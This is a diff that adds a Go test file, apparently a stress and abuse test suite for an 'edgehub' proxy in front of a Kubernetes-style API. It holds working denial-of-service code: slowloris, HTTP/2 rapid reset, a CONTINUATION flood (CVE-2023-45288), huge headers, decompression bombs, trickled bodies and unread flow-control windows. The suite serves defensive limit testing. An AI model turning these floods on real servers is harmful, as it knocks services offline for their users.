@@ -1,0 +1,350 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	. "github.com/onsi/gomega"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/edgehub-io/edge-hub/edgehub/limits"
+	"github.com/edgehub-io/edge-hub/test/hub"
+)
+
+func (s *siege) slowloris(context.Context) string {
+	var h held
+	defer h.letGo()
+	atOnce(2000, 32, func(i int) {
+		if i%2 == 0 {
+			conn, err := s.from(2)
+			if err != nil {
+				return
+			}
+			if i%4 == 0 {
+				_, _ = conn.Write([]byte{0x16, 3, 1, 2, 0, 1, 0}) // the beginning of a ClientHello
+			}
+			h.hold(conn)
+			return
+		}
+		conn, err := s.secure(2, "http/1.1")
+		if err != nil {
+			return
+		}
+		_, _ = io.WriteString(conn, "GET /api/v1/namespaces HTTP/1.1\r\nHost: kubernetes\r\n")
+		h.hold(conn)
+	})
+	for range 3 {
+		time.Sleep(500 * time.Millisecond)
+		for _, conn := range h.conns {
+			if c, ok := conn.(*tls.Conn); ok {
+				_, _ = io.WriteString(c, "X-A: b\r\n")
+			}
+		}
+	}
+	return fmt.Sprintf("%d stayed open", h.open())
+}
+
+func (s *siege) crowd(context.Context) string {
+	var h held
+	defer h.letGo()
+	atOnce(750, 32, func(i int) {
+		conn, err := s.secure(2+i%3, "h2")
+		if err != nil {
+			return
+		}
+		_, _ = io.WriteString(conn, http2.ClientPreface)
+		_ = http2.NewFramer(conn, conn).WriteSettings()
+		h.hold(conn)
+	})
+	time.Sleep(2 * time.Second)
+	return fmt.Sprintf("%d were made", len(h.conns))
+}
+
+// h2 is a connection on which requests are written without waiting.
+type h2 struct {
+	conn    *tls.Conn
+	framer  *http2.Framer
+	block   bytes.Buffer
+	encoder *hpack.Encoder
+	wmu     sync.Mutex
+	next    uint32
+}
+
+func (s *siege) h2(host int) (*h2, error) {
+	conn, err := s.secure(host, "h2")
+	if err != nil {
+		return nil, err
+	}
+	c := &h2{conn: conn, framer: http2.NewFramer(conn, conn), next: 1}
+	c.encoder = hpack.NewEncoder(&c.block)
+	_, err = io.WriteString(conn, http2.ClientPreface)
+	if err == nil {
+		err = c.framer.WriteSettings()
+	}
+	return c, err
+}
+
+// request writes a GET and returns its stream.
+func (c *h2) request(path, token string, end bool) (uint32, error) {
+	c.wmu.Lock()
+	defer c.wmu.Unlock()
+	c.block.Reset()
+	for _, f := range []field{{":method", "GET"}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", path}, {"user-agent", "edge-app/1"}, {"authorization", "Bearer " + token}} {
+		_ = c.encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
+	}
+	id := c.next
+	c.next += 2
+	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndStream: end, EndHeaders: true})
+}
+
+// statuses reads until ctx ends, and counts responses by status.
+func (c *h2) statuses(counted func(status string)) {
+	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+	for {
+		frame, err := c.framer.ReadFrame()
+		if err != nil {
+			return
+		}
+		switch frame := frame.(type) {
+		case *http2.MetaHeadersFrame:
+			counted(frame.PseudoValue("status"))
+		case *http2.RSTStreamFrame:
+			counted("reset")
+		case *http2.SettingsFrame:
+			if !frame.IsAck() {
+				c.wmu.Lock()
+				_ = c.framer.WriteSettingsAck()
+				c.wmu.Unlock()
+			}
+		}
+	}
+}
+
+func (s *siege) watches(context.Context) string {
+	var mu sync.Mutex
+	count := map[string]int{}
+	var h held
+	var readers sync.WaitGroup
+	atOnce(50, 8, func(int) {
+		c, err := s.h2(3)
+		if err != nil {
+			return
+		}
+		h.hold(c.conn)
+		readers.Go(func() {
+			c.statuses(func(status string) {
+				mu.Lock()
+				count[status]++
+				mu.Unlock()
+			})
+		})
+		for range 200 {
+			if _, err := c.request("/api/v1/namespaces/quiet/configmaps?watch=1", s.token, true); err != nil {
+				return
+			}
+		}
+	})
+	s.Eventually(func() (sum int) {
+		mu.Lock()
+		defer mu.Unlock()
+		for _, n := range count {
+			sum += n
+		}
+		return sum
+	}).WithTimeout(8 * time.Second).Should(BeNumerically(">=", 9000))
+	h.letGo()
+	readers.Wait()
+	s.Expect(count["200"]).To(BeNumerically("<=", limits.Defaults().WatchesPerCaller), "one identity has more watches than it may")
+	s.Expect(count["200"]).To(BeNumerically(">", 100))
+	return fmt.Sprintf("answered with %v", count)
+}
+
+func (s *siege) rapidReset(ctx context.Context) string {
+	var sent, connections atomic.Int64
+	atOnce(8, 8, func(int) {
+		for sent.Load() < 50_000 && ctx.Err() == nil {
+			c, err := s.h2(4)
+			if err != nil {
+				continue
+			}
+			connections.Add(1)
+			go c.statuses(func(string) {})
+			_ = c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
+			for err == nil && sent.Load() < 50_000 && ctx.Err() == nil {
+				var id uint32
+				if id, err = c.request("/api/v1/namespaces/quiet/configmaps", s.token, true); err == nil {
+					c.wmu.Lock()
+					err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
+					c.wmu.Unlock()
+					sent.Add(1)
+				}
+			}
+			_ = c.conn.Close()
+		}
+	})
+	return fmt.Sprintf("%d sent on %d connections", sent.Load(), connections.Load())
+}
+
+func (s *siege) attacker(host int) *http.Client {
+	client := s.dial()
+	transport := client.Transport.(*http.Transport)
+	transport.DialContext = func(context.Context, string, string) (net.Conn, error) { return s.from(host) }
+	return client
+}
+
+func (s *siege) bombs(ctx context.Context) string {
+	client := s.attacker(5)
+	all := bombs()
+	answers := make([]int, len(all))
+	atOnce(len(all), 4, func(i int) {
+		resp, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Path: all[i].path, Token: s.token, UserAgent: "edge-app/1", Accept: all[i].mediaType, Header: http.Header{"Accept-Encoding": {"gzip"}}})
+		if err == nil && resp.Code == http.StatusOK {
+			answers[i] = len(resp.Body)
+		}
+	})
+	for i, n := range answers {
+		s.Expect(n).To(Equal(len(all[i].body)), "%s was passed on as it is", all[i].path)
+	}
+	// Recording goes on after the answer.
+	time.Sleep(6 * time.Second)
+	post, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Method: "POST", Path: "/api/v1/namespaces/siege/configmaps", Token: s.token, UserAgent: "edge-app/1",
+		Header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}}, Body: string(all[6].body)})
+	s.Expect(err).NotTo(HaveOccurred())
+	s.Expect(post.Code).To(BeNumerically(">=", 400))
+	return fmt.Sprintf("%d answers of 1 GB in 1 MB each", len(all))
+}
+
+func (s *siege) headers(ctx context.Context) string {
+	var codes sync.Map
+	atOnce(60, 16, func(i int) {
+		if i%2 == 0 {
+			conn, err := s.secure(6, "http/1.1")
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+			_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\n")
+			_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
+			line := "X-" + strings.Repeat("a", 1000) + ": " + strings.Repeat("b", 31_000) + "\r\n"
+			for range 320 { // 10 MB
+				if _, err := io.WriteString(conn, line); err != nil {
+					break
+				}
+			}
+			answer := make([]byte, 12)
+			_, _ = io.ReadFull(conn, answer)
+			codes.Store(string(answer), true)
+			return
+		}
+		c, err := s.h2(6)
+		if err != nil {
+			return
+		}
+		defer c.conn.Close()
+		_ = c.conn.SetDeadline(time.Now().Add(2 * time.Second))
+		go c.statuses(func(status string) { codes.Store("h2 "+status, true) })
+		// A header that goes on in CONTINUATION frames (CVE-2023-45288).
+		fragment := bytes.Repeat([]byte("\x40\x01a\x7f\x00"+strings.Repeat("b", 127)), 100)
+		c.wmu.Lock()
+		defer c.wmu.Unlock()
+		err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fragment})
+		for i := 0; err == nil && i < 10<<20/len(fragment) && ctx.Err() == nil; i++ {
+			err = c.framer.WriteContinuation(1, false, fragment)
+		}
+	})
+	seen := []string{}
+	codes.Range(func(code, _ any) bool { seen = append(seen, code.(string)); return true })
+	return fmt.Sprintf("answered with %q", seen)
+}
+
+func (s *siege) bodies(ctx context.Context) string {
+	client := s.attacker(7)
+	large, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Method: "POST", Path: "/api/v1/namespaces/siege/configmaps", Token: s.token, UserAgent: "edge-app/1", Body: strings.Repeat(" ", 20<<20)})
+	code := 0
+	if err == nil {
+		code = large.Code
+	}
+	var h held
+	defer h.letGo()
+	atOnce(150, 16, func(int) {
+		conn, err := s.secure(7, "http/1.1")
+		if err != nil {
+			return
+		}
+		fmt.Fprintf(conn, "POST /api/v1/namespaces/siege/configmaps HTTP/1.1\r\nHost: kubernetes\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\nContent-Length: 1000000\r\n\r\n{", s.token)
+		h.hold(conn)
+	})
+	for range 6 {
+		time.Sleep(500 * time.Millisecond)
+		for _, conn := range h.conns {
+			_, _ = conn.Write([]byte(" "))
+		}
+	}
+	return fmt.Sprintf("20 MB: %d; %d bodies that trickle", code, len(h.conns))
+}
+
+func (s *siege) deafReaders(context.Context) string {
+	var h held
+	defer h.letGo()
+	atOnce(20, 8, func(i int) {
+		path := "/api/v1/namespaces/big/configmaps"
+		if i%2 == 0 {
+			path += "?watch=1&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan"
+		}
+		if i%4 < 2 {
+			conn, err := s.secure(8, "http/1.1")
+			if err != nil {
+				return
+			}
+			fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: kubernetes\r\nUser-Agent: edge-app/1\r\nAuthorization: Bearer %s\r\n\r\n", path, s.token)
+			h.hold(conn)
+			return
+		}
+		c, err := s.h2(8)
+		if err != nil {
+			return
+		}
+		// The window is as large as it may be, and nothing is read.
+		_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
+		_ = c.framer.WriteWindowUpdate(0, 1<<30)
+		_, _ = c.request(path, s.token, true)
+		h.hold(c.conn)
+	})
+	time.Sleep(4 * time.Second)
+	return fmt.Sprintf("%d of them", len(h.conns))
+}
+
+func (s *siege) lists(ctx context.Context) string {
+	ctx, cancel := context.WithTimeout(ctx, 8*time.Second)
+	defer cancel()
+	var whole, refused, cut atomic.Int64
+	clients := []*http.Client{s.attacker(9), s.attacker(10), s.attacker(11), s.attacker(12)}
+	atOnce(200, 200, func(i int) {
+		resp, err := hub.Open(ctx, clients[i%len(clients)], s.hub.URL(), hub.Request{Path: "/api/v1/namespaces/big/configmaps", Token: s.token, UserAgent: "edge-app/1"})
+		if err != nil {
+			cut.Add(1)
+			return
+		}
+		defer resp.Body.Close()
+		n, err := io.Copy(io.Discard, resp.Body)
+		switch {
+		case resp.StatusCode == http.StatusTooManyRequests:
+			refused.Add(1)
+		case err != nil || n < 20<<20:
+			cut.Add(1)
+		default:
+			whole.Add(1)
+		}
+	})
+	return fmt.Sprintf("%d whole, %d refused, %d given up after 8 s", whole.Load(), refused.Load(), cut.Load())
+}
